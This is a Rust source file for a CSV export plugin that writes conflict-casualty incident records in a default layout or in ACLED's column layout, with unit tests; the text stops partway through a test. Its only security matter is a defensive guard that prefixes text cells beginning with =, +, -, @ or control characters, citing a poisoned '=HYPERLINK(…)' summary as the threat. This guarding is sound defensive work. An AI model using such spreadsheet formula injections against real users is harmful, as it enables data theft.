//! The `csv` export format: one row per incident.
//!
//! Options:
//! - `layout=default` (the default): the reconciled ranges (`killed_low`,
//!   `killed_best`, `killed_high`, …), `disputed`, `grade`, `grade_suggested`, `grade_reason`
//!   (the incident's grade, recorded or suggested, before `last_seq`), and for every source
//!   appearing in the document (sorted by name) `<source>_killed` and
//!   `<source>_wounded` holding the figure as the source gave it
//!   (`at least 14`). Preceded by `# ` comment lines stating the
//!   provenance, unless `provenance=false`, the last of them the log's
//!   checkpoint note, one `# checkpoint: LINE` per line (a blank line of a
//!   signed note is `# checkpoint:`). `first_recorded` and `last_changed`
//!   (RFC 3339, as the log stores them) date the incident's life in the
//!   log; `revisions` lists every source's revised figures
//!   (`AFP: killed 17 -> 19, 31 July 2020, raised its toll`, `; ` between).
//!   When some incident has a count that rests on coded figures only
//!   (`Range::coded`: ACLED's "Unknown fatalities coded as 3", no source
//!   stated a number), `killed_coded`, `wounded_coded` and
//!   `attackers_killed_coded` (`true`/`false`) follow `revisions`, and a
//!   `# coded:` comment names those incidents: the range columns keep the
//!   coded value as a number (so that a sum counts it, as chronicle's totals
//!   do), and a spreadsheet user who wants stated tolls only filters on them.
//!   A document without coded counts has the columns it always had.
//! - `layout=acled`: the 31 columns of an ACLED export, filled where the
//!   view has the data and empty otherwise; `fatalities` is every reported
//!   death, as in ACLED: the best killed figure plus the best attackers
//!   killed figure (chronicle counts attackers apart, ACLED does not), and
//!   `notes` lists disagreeing figures as ACLED does ("Fatalities coded as 8
//!   (AFP reported 17; Ministry of Defense reported 8).") and the attackers
//!   included. No source figure at all is written 0, as ACLED codes it,
//!   and the notes say so; a killed count that rests on coded figures only
//!   adds "Unknown fatalities coded as N." to the notes (ACLED's own words,
//!   which `import --from acled` reads back as a coded figure) unless they
//!   already say how the fatalities were coded. `disorder_type`, `event_type` and
//!   `sub_event_type` come from the category: an ACLED sub-event type as
//!   itself (the inverse of `import --from acled`), other categories by
//!   their words ("suicide car bombing" is a Suicide bomb), and a category
//!   no word matches is coded `Other` with a note saying so (the table is
//!   in IMPORT.md). `country` is the gazetteer's country of the province
//!   (`province_country`), the recorded one otherwise. So the file imports
//!   back with `import --from acled`. No comment lines (ACLED readers do
//!   not expect any); the provenance goes into each row's `tags` column
//!   instead, unless `provenance=false`. The checkpoint is not in this
//!   layout: a note is several lines, and a cell repeated on every row is no
//!   place for it (export the default layout or json for it).
//! - `provenance=true|false`.
//! - `formulas=guard` (the default): every text cell that begins with `=`,
//!   `+`, `-`, `@`, a tab or a carriage return gets a `'` before it, as
//!   OWASP recommends against "CSV injection": spreadsheets (Excel,
//!   LibreOffice, Google Sheets) would otherwise run a poisoned summary such
//!   as `=HYPERLINK(…)` as a formula. So do text cells that are `'`s
//!   followed by such a character, so that the ACLED importer can undo the
//!   guard exactly. Numbers (figures, coordinates, sequence numbers) are
//!   never guarded. `formulas=keep` writes every cell as it is, for
//!   programs that are not spreadsheets. The provenance (comment or `tags`)
//!   says which was used.
//!
//! Rows end with `\n`; fields are quoted only when needed (RFC 4180
//! quoting, by the `csv` crate).

use chronicle_plugin_sdk::safe::guard_formula;
use chronicle_plugin_sdk::view::unix_seconds;
use chronicle_plugin_sdk::{
    DatePrecision, DocumentHead, Figure, Incident, Options, Range, StatusRanges, StreamExporter,
    ViewDocument,
};
use std::collections::BTreeSet;
use std::io::Write;

/// The CSV exporter: an export in progress.
///
/// Streamed (plugin ABI 2): the default layout's columns (one pair per source, the status
/// and coded columns when some incident has them) and its provenance comments (which
/// incidents were redacted, adjudicated, coded) depend on every incident, so it takes two
/// passes: pass 0 gathers them (`Gathered`: names and ids, never rows) and pass 1 writes
/// the comments, the header and one row per incident as it comes. The ACLED layout's
/// columns are fixed: it reads the incidents once ([`StreamExporter::passes`]), writing its
/// header and its rows in pass 0.
#[derive(Debug)]
pub struct Csv {
    head: ViewDocument,
    acled: bool,
    provenance: bool,
    formulas: Formulas,
    gathered: Gathered,
    /// The ACLED layout's `tags` cell (the provenance), the same on every row.
    tags: String,
}

/// What the default layout needs to know about all the incidents before its header.
#[derive(Debug, Default)]
struct Gathered {
    /// The sources appearing in the document, sorted by name.
    sources: BTreeSet<String>,
    /// Whether some incident has killed (wounded) figures by status.
    killed_by_status: bool,
    wounded_by_status: bool,
    /// The provenance comments' lists: `ID (seq N, ...)` of the incidents with erased
    /// events, with an applied adjudication; the ids of those with a coded count.
    redacted: Vec<String>,
    adjudicated: Vec<String>,
    coded: Vec<String>,
}

impl Gathered {
    fn add(&mut self, i: &Incident) {
        for s in &i.sources {
            if !self.sources.contains(&s.source) {
                self.sources.insert(s.source.clone());
            }
        }
        self.killed_by_status |= !i.killed_by_status.is_empty();
        self.wounded_by_status |= !i.wounded_by_status.is_empty();
        if !i.redactions.is_empty() {
            let seqs: Vec<String> = i
                .redactions
                .iter()
                .map(|r| r.event_seq.to_string())
                .collect();
            self.redacted
                .push(format!("{} (seq {})", i.incident, seqs.join(", ")));
        }
        if let Some(a) = i.adjudication.as_ref().filter(|a| a.applied) {
            self.adjudicated
                .push(format!("{} (seq {})", i.incident, a.event_seq));
        }
        if has_coded(i) {
            self.coded.push(i.incident.clone());
        }
    }
}

impl StreamExporter for Csv {
    const NAME: &'static str = "csv";
    const VERSION: &'static str = env!("CARGO_PKG_VERSION");
    const EXTENSION: &'static str = "csv";
    const DESCRIPTION: &'static str =
        "One row per incident with ranges and per-source figures; layout=acled for ACLED's columns";
    const TEXT: bool = true;
    const PASSES: u32 = 2;

    fn begin(head: &DocumentHead, options: &Options) -> Result<Self, String> {
        options.check_known(&["layout", "provenance", "formulas"])?;
        let layout = options.get_choice("layout", &["default", "acled"], "default")?;
        let provenance = options.get_bool("provenance", true)?;
        let formulas = Formulas {
            guard: options.get_choice("formulas", &["guard", "keep"], "guard")? == "guard",
        };
        let head = head.document();
        let tags = if provenance {
            acled_tags(&head, formulas)
        } else {
            String::new()
        };
        Ok(Csv {
            head,
            acled: layout == "acled",
            provenance,
            formulas,
            gathered: Gathered::default(),
            tags,
        })
    }

    fn passes(&self) -> u32 {
        if self.acled {
            1
        } else {
            2
        }
    }

    fn start_pass(&mut self, pass: u32, out: &mut dyn Write) -> Result<(), String> {
        if self.acled {
            return out
                .write_all(&record(ACLED_COLUMNS)?)
                .map_err(|e| e.to_string());
        }
        if pass == 0 {
            return Ok(());
        }
        let t = |cell: String| self.formulas.text(cell);
        let mut header = default_header(&status_columns(&self.gathered), self.coded());
        for s in &self.gathered.sources {
            header.push(t(format!("{s}_killed")));
            header.push(t(format!("{s}_wounded")));
        }
        if self.provenance {
            let comments = provenance_comments(&self.head, &self.gathered, self.formulas);
            out.write_all(comments.as_bytes())
                .map_err(|e| e.to_string())?;
        }
        out.write_all(&record(&header)?).map_err(|e| e.to_string())
    }

    fn incident(&mut self, pass: u32, i: &Incident, out: &mut dyn Write) -> Result<(), String> {
        match (pass, self.acled) {
            (_, true) => out
                .write_all(&record(acled_row(i, &self.tags, self.formulas))?)
                .map_err(|e| e.to_string()),
            (0, false) => {
                self.gathered.add(i);
                Ok(())
            }
            (_, false) => {
                let row = default_row(i, &self.gathered, self.coded(), self.formulas);
                out.write_all(&record(&row)?).map_err(|e| e.to_string())
            }
        }
    }

    fn finish(self, _out: &mut dyn Write) -> Result<(), String> {
        Ok(())
    }
}

impl Csv {
    /// Whether some incident has a coded count (the coded columns are written).
    fn coded(&self) -> bool {
        !self.gathered.coded.is_empty()
    }
}

// Also `impl Exporter for Csv` (the whole document at once, what the tests run): the
// streamed code, fed every incident.
chronicle_plugin_sdk::export_stream_plugin!(Csv);

/// One CSV record, as the `csv` crate writes it.
fn record<I, T>(cells: I) -> Result<Vec<u8>, String>
where
    I: IntoIterator<Item = T>,
    T: AsRef<[u8]>,
{
    let mut w = csv::WriterBuilder::new().from_writer(Vec::new());
    w.write_record(cells).map_err(|e| e.to_string())?;
    w.into_inner().map_err(|e| e.to_string())
}

/// What to do with text cells a spreadsheet would run as formulas.
#[derive(Debug, Clone, Copy)]
struct Formulas {
    /// Put `'` before them (`formulas=guard`), or keep them (`formulas=keep`).
    guard: bool,
}

impl Formulas {
    /// A text cell, guarded when needed.
    fn text(self, cell: String) -> String {
        if self.guard {
            guard_formula(&cell).into_owned()
        } else {
            cell
        }
    }

    /// A number cell: left as it is when it is a number (`-33.9` is one),
    /// guarded as text otherwise (it can only be damaged data).
    fn number(self, cell: String) -> String {
        if cell.is_empty() || cell.parse::<f64>().is_ok() {
            cell
        } else {
            self.text(cell)
        }
    }

    /// The option value, for the provenance.
    fn describe(self) -> &'static str {
        if self.guard {
            "formulas=guard"
        } else {
            "formulas=keep"
        }
    }
}

fn num(n: Option<u64>) -> String {
    n.map(|n| n.to_string()).unwrap_or_default()
}

fn opt(s: &Option<String>) -> String {
    s.clone().unwrap_or_default()
}

fn range_cells(r: &Range) -> [String; 4] {
    [
        num(r.low),
        num(r.best),
        num(r.high),
        if r.is_unknown() {
            String::new()
        } else {
            r.open_high.to_string()
        },
    ]
}

fn provenance_comments(doc: &ViewDocument, g: &Gathered, formulas: Formulas) -> String {
    let p = &doc.provenance;
    let mut lines = vec![
        format!(
            "chronicle export: {} plugin {}, layout default, {}",
            <Csv as StreamExporter>::NAME,
            <Csv as StreamExporter>::VERSION,
            formulas.describe()
        ),
        format!("log_seq: {}", p.log_seq),
        format!("log_hash: {}", p.log_hash.as_deref().unwrap_or("none")),
        format!("point: {}", p.point.code()),
        format!("policy: {}", p.policy.best),
        format!("generator: {}", p.generator),
    ];
    let filters: Vec<String> = p
        .filters
        .entries()
        .iter()
        .map(|(k, v)| format!("{k}={v}"))
        .collect();
    if !filters.is_empty() {
        lines.push(format!("filters: {}", filters.join("; ")));
    }
    // Erased events have no column: the rows only count what was not erased, so say which
    // incidents had some (ids and seqs only; the reasons are in the json export).
    let redacted = &g.redacted;
    if !redacted.is_empty() {
        lines.push(format!(
            "redacted: events erased by a redaction, counted nowhere here: {}",
            redacted.join("; ")
        ));
    }
    // The rows' best figures of these incidents are the recorder's decisions (the reasons
    // are in the json export).
    let adjudicated = &g.adjudicated;
    if !adjudicated.is_empty() {
        lines.push(format!(
            "adjudicated: best figures decided by the recorder, with a reason: {}",
            adjudicated.join("; ")
        ));
    }
    // The range columns of these incidents hold a coded value, not a stated count.
    let coded = &g.coded;
    if !coded.is_empty() {
        lines.push(format!(
            "coded: counts that rest on coded figures only (no source stated a number; a dataset's convention for an unknown toll, e.g. ACLED's 3), kept as their value in the range columns and marked true in killed_coded, wounded_coded, attackers_killed_coded: {}",
            coded.join("; ")
        ));
    }
    let mut out: String = lines
        .iter()
        .map(|l| format!("# {}\n", l.replace(['\n', '\r'], " ")))
        .collect();
    // The note line by line: a reader gets it back by taking the lines that begin with
    // `# checkpoint:` and removing that and the one space after it.
    if let Some(c) = &p.checkpoint {
        for line in c.note.lines() {
            let line = line.replace('\r', " ");
            if line.is_empty() {
                out.push_str("# checkpoint:\n");
            } else {
                out.push_str(&format!("# checkpoint: {line}\n"));
            }
        }
    }
    out
}

/// The casualty statuses of the status columns, `unattributed` last (the part of the
/// incident's total no status covers).
const STATUS_KEYS: [&str; 5] = [
    "civilians",
    "security_forces",
    "militants",
    "unknown",
    "unattributed",
];

/// The breakdown of an incident by status for one measure.
type ByStatusOf = fn(&Incident) -> &StatusRanges;

/// The measures that get status columns (`killed_civilians_low`, ...): killed, wounded,
/// each only when some incident of the document has a status for it, so that a document
/// without statuses has the columns it always had.
fn status_columns(g: &Gathered) -> Vec<(&'static str, ByStatusOf)> {
    let measures: [(&'static str, ByStatusOf, bool); 2] = [
        ("killed", |i| &i.killed_by_status, g.killed_by_status),
        ("wounded", |i| &i.wounded_by_status, g.wounded_by_status),
    ];
    measures
        .into_iter()
        .filter(|(_, _, some)| *some)
        .map(|(measure, by, _)| (measure, by))
        .collect()
}

/// Every source's revisions, `; ` between them: `AFP: killed 17 -> 19, 31 July 2020,
/// raised its toll`.
fn revisions_cell(i: &Incident) -> String {
    i.sources
        .iter()
        .flat_map(|s| {
            s.revisions
                .iter()
                .map(move |r| format!("{}: {}", s.source, r.describe()))
        })
        .collect::<Vec<_>>()
        .join("; ")
}

fn figure_text(f: &Option<Figure>) -> String {
    f.as_ref().map(|f| f.text.clone()).unwrap_or_default()
}

/// Does an incident have a count (killed, wounded, attackers killed) that rests on coded
/// figures only?
fn has_coded(i: &Incident) -> bool {
    i.killed.coded || i.wounded.coded || i.attackers_killed.coded
}

/// The columns that say which ranges are coded, when some incident has one.
const CODED_COLUMNS: [&str; 3] = ["killed_coded", "wounded_coded", "attackers_killed_coded"];

/// The default layout's columns before the per-source ones: the incident's, its ranges,
/// the coded flags when `coded`, then the ranges by status of the measures that have
/// statuses.
fn default_header(status_columns: &[(&'static str, ByStatusOf)], coded: bool) -> Vec<String> {
    let mut header: Vec<String> = [
        "incident",
        "date",
        "date_start",
        "date_end",
        "date_precision",
        "country",
        "province",
        "province_code",
        "district",
        "locality",
        "latitude",
        "longitude",
        "coordinate_source",
        "category",
        "target",
        "perpetrator",
        "killed_low",
        "killed_best",
        "killed_high",
        "killed_open_high",
        "wounded_low",
        "wounded_best",
        "wounded_high",
        "wounded_open_high",
        "attackers_killed_low",
        "attackers_killed_best",
        "attackers_killed_high",
        "attackers_killed_open_high",
        "disputed",
        "sources",
        "summary",
        "grade",
        "grade_suggested",
        "grade_reason",
        "last_seq",
        "first_recorded",
        "last_changed",
        "revisions",
    ]
    .iter()
    .map(|s| (*s).to_owned())
    .collect();
    if coded {
        header.extend(CODED_COLUMNS.iter().map(|s| (*s).to_owned()));
    }
    for (measure, _) in status_columns {
        for status in STATUS_KEYS {
            for end in ["low", "best", "high", "open_high"] {
                header.push(format!("{measure}_{status}_{end}"));
            }
        }
    }
    header
}

/// The default layout's row of one incident.
fn default_row(i: &Incident, g: &Gathered, coded: bool, formulas: Formulas) -> Vec<String> {
    let t = |cell: String| formulas.text(cell);
    let status_columns = status_columns(g);
    {
        let (lat, lon, coordinate_source) = match i.map_point() {
            Some((p, source)) => (p.lat.to_string(), p.lon.to_string(), source.as_str()),
            None => (String::new(), String::new(), ""),
        };
        let mut row: Vec<String> = vec![
            t(i.incident.clone()),
            t(i.date.clone()),
            t(i.date_start.clone()),
            t(i.date_end.clone()),
            t(i.date_precision.as_str().to_owned()),
            t(opt(&i.country)),
            t(i.province.clone()),
            t(opt(&i.province_code)),
            t(opt(&i.district)),
            t(opt(&i.locality)),
            formulas.number(lat),
            formulas.number(lon),
            t(coordinate_source.to_owned()),
            t(i.category.clone()),
            t(opt(&i.target)),
            t(opt(&i.perpetrator)),
        ];
        row.extend(range_cells(&i.killed));
        row.extend(range_cells(&i.wounded));
        row.extend(range_cells(&i.attackers_killed));
        row.push(i.disputed.to_string());
        row.push(t(i
            .sources
            .iter()
            .map(|s| s.source.as_str())
            .collect::<Vec<_>>()
            .join("; ")));
        row.push(t(opt(&i.summary)));
        row.push(
            i.grade
                .as_ref()
                .map(|g| g.grade.to_string())
                .unwrap_or_default(),
        );
        row.push(
            i.grade
                .as_ref()
                .map(|g| g.suggested.to_string())
                .unwrap_or_default(),
        );
        row.push(t(i
            .grade
            .as_ref()
            .map(|g| g.reason.clone())
            .unwrap_or_default()));
        row.push(i.last_seq.to_string());
        row.push(t(opt(&i.first_recorded)));
        row.push(t(opt(&i.last_recorded)));
        row.push(t(revisions_cell(i)));
        if coded {
            for r in [&i.killed, &i.wounded, &i.attackers_killed] {
                row.push(r.coded.to_string());
            }
        }
        for (_, by) in &status_columns {
            let by = by(i);
            for status in STATUS_KEYS {
                row.extend(range_cells(&by.get(status).copied().unwrap_or_default()));
            }
        }
        for name in &g.sources {
            let s = i.sources.iter().find(|s| &s.source == name);
            row.push(t(s.map(|s| figure_text(&s.killed)).unwrap_or_default()));
            row.push(t(s.map(|s| figure_text(&s.wounded)).unwrap_or_default()));
        }
        row
    }
}

/// The ACLED columns holding numbers, by index: `year`, `time_precision`,
/// `latitude`, `longitude`, `geo_precision`, `fatalities`, `timestamp`.
/// Every other column holds text.
const ACLED_NUMBER_COLUMNS: [usize; 7] = [2, 3, 22, 23, 24, 28, 30];

/// The 31 columns of an ACLED export, in ACLED's order.
pub const ACLED_COLUMNS: [&str; 31] = [
    "event_id_cnty",
    "event_date",
    "year",
    "time_precision",
    "disorder_type",
    "event_type",
    "sub_event_type",
    "actor1",
    "assoc_actor_1",
    "inter1",
    "actor2",
    "assoc_actor_2",
    "inter2",
    "interaction",
    "civilian_targeting",
    "iso",
    "region",
    "country",
    "admin1",
    "admin2",
    "admin3",
    "location",
    "latitude",
    "longitude",
    "geo_precision",
    "source",
    "source_scale",
    "notes",
    "fatalities",
    "tags",
    "timestamp",
];

/// ACLED's `time_precision`: 1 the day is known, 2 the week or a few days,
/// 3 only the month (or less).
fn time_precision(p: DatePrecision) -> &'static str {
    match p {
        DatePrecision::Day => "1",
        DatePrecision::Week | DatePrecision::Range => "2",
        DatePrecision::Month | DatePrecision::Year => "3",
    }
}

const PV: &str = "Political violence";
const DEMONSTRATIONS: &str = "Demonstrations";
const SD: &str = "Strategic developments";
const ERV: &str = "Explosions/Remote violence";
const VAC: &str = "Violence against civilians";

/// ACLED's taxonomy (codebook 2023): every sub-event type with its event
/// type and disorder type, as (sub-event type, event type, disorder type).
const ACLED_SUB_EVENT_TYPES: [(&str, &str, &str); 25] = [
    ("Government regains territory", "Battles", PV),
    ("Non-state actor overtakes territory", "Battles", PV),
    ("Armed clash", "Battles", PV),
    (
        "Excessive force against protesters",
        "Protests",
        "Political violence; Demonstrations",
    ),
    ("Protest with intervention", "Protests", DEMONSTRATIONS),
    ("Peaceful protest", "Protests", DEMONSTRATIONS),
    ("Violent demonstration", "Riots", DEMONSTRATIONS),
    ("Mob violence", "Riots", PV),
    ("Chemical weapon", ERV, PV),
    ("Air/drone strike", ERV, PV),
    ("Suicide bomb", ERV, PV),
    ("Shelling/artillery/missile attack", ERV, PV),
    ("Remote explosive/landmine/IED", ERV, PV),
    ("Grenade", ERV, PV),
    ("Sexual violence", VAC, PV),
    ("Attack", VAC, PV),
    ("Abduction/forced disappearance", VAC, PV),
    ("Agreement", SD, SD),
    ("Arrests", SD, SD),
    ("Change to group/activity", SD, SD),
    ("Disrupted weapons use", SD, SD),
    ("Headquarters or base established", SD, SD),
    ("Looting/property destruction", SD, SD),
    ("Non-violent transfer of territory", SD, SD),
    ("Other", SD, SD),
];

/// The sub-event type of a free-text category by its words, first match
/// first (so "suicide car bombing" is a suicide bomb, not a remote
/// explosive). The table in IMPORT.md ("Exporting to ACLED") is this one.
const CATEGORY_WORDS: [(&[&str], &str); 13] = [
    (&["chemical"], "Chemical weapon"),
    (&["suicide"], "Suicide bomb"),
    (
        &["airstrike", "airstrikes", "drone", "air strike", "air raid"],
        "Air/drone strike",
    ),
    (
        &[
            "shelling",
            "artillery",
            "missile",
            "rocket",
            "rockets",
            "mortar",
        ],
        "Shelling/artillery/missile attack",
    ),
    (&["grenade"], "Grenade"),
    (
        &[
            "ied",
            "landmine",
            "mine",
            "roadside",
            "bomb",
            "bombing",
            "explosion",
            "explosive",
            "blast",
        ],
        "Remote explosive/landmine/IED",
    ),
    (
        &[
            "clash",
            "clashes",
            "battle",
            "fighting",
            "firefight",
            "checkpoint",
        ],
        "Armed clash",
    ),
    (
        &["abduction", "kidnapping", "abducted", "kidnapped"],
        "Abduction/forced disappearance",
    ),
    (&["rape", "sexual"], "Sexual violence"),
    (&["protest", "demonstration"], "Peaceful protest"),
    (&["riot"], "Violent demonstration"),
    (&["arrest", "arrests", "arrested"], "Arrests"),
    (&["looting"], "Looting/property destruction"),
];

/// The sub-event type given to a category nothing above matches: ACLED's
/// catch-all, with a note in the row saying so.
const DEFAULT_SUB_EVENT_TYPE: &str = "Other";

/// ACLED's types for a chronicle category.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct AcledTypes {
    disorder: &'static str,
    event: &'static str,
    sub_event: &'static str,
    /// No rule matched: the sub-event type is [`DEFAULT_SUB_EVENT_TYPE`].
    defaulted: bool,
}

/// ACLED's disorder type, event type and sub-event type for a category:
/// the inverse of the ACLED import (which records `sub_event_type` as the
/// category) for a category that is a sub-event type; otherwise by the
/// category's words ([`CATEGORY_WORDS`]); otherwise
/// [`DEFAULT_SUB_EVENT_TYPE`], `defaulted`.
fn acled_types(category: &str) -> AcledTypes {
    let types = |sub: &str, defaulted: bool| {
        let &(sub_event, event, disorder) = ACLED_SUB_EVENT_TYPES
            .iter()
            .find(|(s, _, _)| *s == sub)
            .unwrap_or(&ACLED_SUB_EVENT_TYPES[24]);
        AcledTypes {
            disorder,
            event,
            sub_event,
            defaulted,
        }
    };
    let trimmed = category.trim();
    if let Some((sub, _, _)) = ACLED_SUB_EVENT_TYPES
        .iter()
        .find(|(s, _, _)| s.eq_ignore_ascii_case(trimmed))
    {
        return types(sub, false);
    }
    let lower = trimmed.to_lowercase();
    let words: Vec<&str> = lower
        .split(|c: char| !c.is_alphanumeric())
        .filter(|w| !w.is_empty())
        .collect();
    let joined = words.join(" ");
    let has = |w: &str| {
        if w.contains(' ') {
            format!(" {joined} ").contains(&format!(" {w} "))
        } else {
            words.contains(&w)
        }
    };
    match CATEGORY_WORDS
        .iter()
        .find(|(keys, _)| keys.iter().any(|k| has(k)))
    {
        Some((_, sub)) => types(sub, false),
        None => types(DEFAULT_SUB_EVENT_TYPE, true),
    }
}

/// ACLED's `geo_precision`: 1 the locality itself, 2 a nearby or wider
/// place (district), 3 the province.
fn geo_precision(i: &Incident) -> &'static str {
    match (&i.coordinates, &i.province_centroid) {
        (Some(c), _) => match c.precision.as_deref() {
            None | Some("exact") | Some("locality") | Some("town") | Some("village") => "1",
            Some(_) => "2",
        },
        (None, Some(_)) => "3",
        (None, None) => "",
    }
}

/// ACLED's `fatalities`: every reported death, attackers included (ACLED
/// does not count them apart); `None` when no source gave either figure
/// (the row then says 0, as ACLED codes an event without a reported figure,
/// and its notes say why).
fn acled_fatalities(i: &Incident) -> Option<u64> {
    i.killed.add(&i.attackers_killed).best
}

fn attackers(n: u64) -> String {
    format!("{n} attacker{}", if n == 1 { "" } else { "s" })
}

/// ACLED-style notes: the summary, then how the fatalities were coded when
/// the sources disagree, and the attackers they include; then what this
/// export coded by default: 0 fatalities when no source gave a figure, the
/// sub-event type when the category matches none.
fn acled_notes(i: &Incident, types: AcledTypes) -> String {
    let mut notes = i.summary.clone().unwrap_or_default().trim().to_owned();
    let reported: Vec<String> = i
        .sources
        .iter()
        .filter_map(|s| {
            s.killed
                .as_ref()
                .map(|f| format!("{} reported {}", s.source, f.text))
        })
        .collect();
    let attackers_killed = i.attackers_killed.best.filter(|n| *n > 0);
    let coding = match (
        i.disputed && reported.len() > 1,
        i.killed.best,
        attackers_killed,
    ) {
        (true, Some(best), None) => Some(format!(
            "Fatalities coded as {best} ({}).",
            reported.join("; ")
        )),
        (true, Some(best), Some(n)) => Some(format!(
            "Fatalities coded as {}: {best} killed ({}) and {}.",
            best.saturating_add(n),
            reported.join("; "),
            attackers(n)
        )),
        _ => None,
    };
    // ACLED's own words for a toll nobody stated, which the importer reads back as coded.
    let coded = match (i.killed.coded, i.killed.best) {
        (true, Some(n)) if coding.is_none() && !says_coded(&notes) => {
            Some(format!("Unknown fatalities coded as {n}."))
        }
        _ => None,
    };
    // The attackers a total includes, when the coding above did not say them.
    let include = attackers_killed
        .filter(|_| coding.is_none())
        .map(|n| format!("Fatalities include {}.", attackers(n)));
    let no_figure = acled_fatalities(i)
        .is_none()
        .then(|| "No source gave a fatality figure: coded as 0.".to_owned());
    let defaulted = types.defaulted.then(|| {
        format!(
            "The category \"{}\" matches no ACLED sub-event type: coded as {}.",
            i.category.trim(),
            types.sub_event
        )
    });
    for part in [coding, coded, include, no_figure, defaulted]
        .into_iter()
        .flatten()
    {
        if !notes.is_empty() {
            notes.push(' ');
        }
        notes.push_str(&part);
    }
    notes
}

/// Do these notes already say how the fatalities were coded ("Unknown fatalities coded as
/// 3", as an ACLED import keeps them)?
fn says_coded(notes: &str) -> bool {
    notes.to_lowercase().contains("fatalities coded as ")
}

fn acled_tags(doc: &ViewDocument, formulas: Formulas) -> String {
    let p = &doc.provenance;
    format!(
        "chronicle log_seq={}; log_hash={}; point={}; policy={}; plugin={} {}; {}",
        p.log_seq,
        p.log_hash.as_deref().unwrap_or("none"),
        p.point.code(),
        p.policy.best,
        <Csv as StreamExporter>::NAME,
        <Csv as StreamExporter>::VERSION,
        formulas.describe()
    )
}

/// The ACLED layout's row of one incident (`tags`: the provenance cell).
fn acled_row(i: &Incident, tags: &str, formulas: Formulas) -> [String; 31] {
    {
        let types = acled_types(&i.category);
        let (lat, lon) = match i.map_point() {
            Some((p, _)) => (p.lat.to_string(), p.lon.to_string()),
            None => (String::new(), String::new()),
        };
        let location = i
            .locality
            .clone()
            .or_else(|| i.district.clone())
            .unwrap_or_else(|| i.province.clone());
        let mut row: [String; 31] = [
            i.incident.clone(),
            i.date_start.clone(),
            i.date_start.get(0..4).unwrap_or_default().to_owned(),
            time_precision(i.date_precision).to_owned(),
            types.disorder.to_owned(),
            types.event.to_owned(),
            types.sub_event.to_owned(),
            opt(&i.perpetrator),
            String::new(),
            String::new(),
            opt(&i.target),
            String::new(),
            String::new(),
            String::new(),
            String::new(),
            String::new(),
            String::new(),
            opt(&i.province_country.clone().or_else(|| i.country.clone())),
            i.province.clone(),
            opt(&i.district),
            String::new(),
            location,
            lat,
            lon,
            geo_precision(i).to_owned(),
            i.sources
                .iter()
                .map(|s| s.source.as_str())
                .collect::<Vec<_>>()
                .join("; "),
            String::new(),
            acled_notes(i, types),
            num(Some(acled_fatalities(i).unwrap_or(0))),
            tags.to_owned(),
            i.last_recorded
                .as_deref()
                .and_then(unix_seconds)
                .map(|t| t.to_string())
                .unwrap_or_default(),
        ];
        for (column, cell) in row.iter_mut().enumerate() {
            let taken = std::mem::take(cell);
            *cell = if ACLED_NUMBER_COLUMNS.contains(&column) {
                formulas.number(taken)
            } else {
                formulas.text(taken)
            };
        }
        row
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;
    use chronicle_plugin_sdk::testing::{export_document, export_sample, sample_document};

    /// The Faryab mosque's row of `doc` exported with the ACLED layout.
    fn faryab_acled_row(doc: &ViewDocument) -> String {
        let acled = text(export_document::<Csv>(doc, &[("layout", "acled")]).unwrap());
        acled
            .lines()
            .find(|l| l.starts_with("2020-07-14-faryab-mosque"))
            .unwrap()
            .to_string()
    }

    fn text(bytes: Vec<u8>) -> String {
        String::from_utf8(bytes).unwrap()
    }

    /// Through the version-2 ABI (one incident at a time, two passes) the bytes are the
    /// version-1 path's, in every layout.
    #[test]
    fn the_streamed_path_gives_the_same_bytes() {
        use chronicle_plugin_sdk::testing::{export_stream_doc, sample_coded_document};
        let mut empty = sample_document();
        empty.incidents.clear();
        let mut rich = sample_document();
        rich.incidents[0].killed_by_status.civilians = Some(Range::exact(3));
        rich.incidents[4].adjudication =
            Some(chronicle_plugin_sdk::testing::sample_adjudication("why"));
        for doc in [sample_document(), sample_coded_document(), empty, rich] {
            for options in [&[][..], &[("layout", "acled")], &[("provenance", "false")]] {
                let whole = export_document::<Csv>(&doc, options).unwrap();
                let streamed = export_stream_doc::<Csv>(&doc, options).unwrap();
                assert_eq!(text(streamed), text(whole));
            }
        }
    }

    fn parse(csv_text: &str) -> Vec<csv::StringRecord> {
        csv::ReaderBuilder::new()
            .comment(Some(b'#'))
            .has_headers(false)
            .from_reader(csv_text.as_bytes())
            .records()
            .map(Result::unwrap)
            .collect()
    }

    /// A count that rests on coded figures only: its range columns keep the number (a sum
    /// counts it, as the totals do), the flag columns follow `revisions` and say `true` for
    /// it only, and a comment names the incident; a document without one has neither. The
    /// ACLED layout says it in ACLED's words, which the importer reads back as coded.
    #[test]
    fn coded_counts_are_flagged_in_columns_of_their_own() {
        let plain = text(export_sample::<Csv>(&[]).unwrap());
        assert!(!plain.contains("coded"), "{plain}");
        let doc = chronicle_plugin_sdk::testing::sample_coded_document();
        let out = text(export_document::<Csv>(&doc, &[]).unwrap());
        let comment = out.lines().find(|l| l.starts_with("# coded:")).unwrap();
        assert!(comment.ends_with(": 2020-07-14-faryab-mosque"), "{comment}");
        let rows = parse(&out);
        let header: Vec<&str> = rows[0].iter().collect();
        let col = |name: &str| header.iter().position(|h| *h == name).unwrap();
        assert_eq!(col("killed_coded"), col("revisions") + 1);
        let flags: Vec<(&str, &str, &str, &str)> = rows[1..]
            .iter()
            .map(|r| {
                (
                    &r[col("incident")],
                    &r[col("killed_best")],
                    &r[col("killed_coded")],
                    &r[col("wounded_coded")],
                )
            })
            .collect();
        assert_eq!(
            flags,
            [
                ("2020-07-08-nangarhar-police", "4", "false", "false"),
                ("2020-07-12-kunduz-checkpoints", "14", "false", "false"),
                ("2020-07-13-aybak-nds-compound", "11", "false", "false"),
                ("2020-07-14-faryab-mosque", "3", "true", "false"),
                ("2020-07-30-puli-alam", "12", "false", "false"),
            ]
        );
        let row = faryab_acled_row(&doc);
        assert!(
            row.contains("the toll is unknown. Unknown fatalities coded as 3. "),
            "{row}"
        );
        assert_eq!(row.matches("coded as 3").count(), 1, "{row}");
        assert_eq!(coded_in_note(&row), Some(3), "what the importer reads");
    }

    /// A coded toll beside attackers killed: ACLED's words for the coded toll, and the
    /// attackers the fatalities include (before, the attackers' note took the coded one's
    /// place, and the notes no longer said the toll was a convention).
    #[test]
    fn a_coded_toll_with_attackers_says_both() {
        let mut doc = chronicle_plugin_sdk::testing::sample_coded_document();
        let faryab = doc
            .incidents
            .iter_mut()
            .find(|i| i.incident == "2020-07-14-faryab-mosque")
            .unwrap();
        faryab.attackers_killed = Range::exact(2);
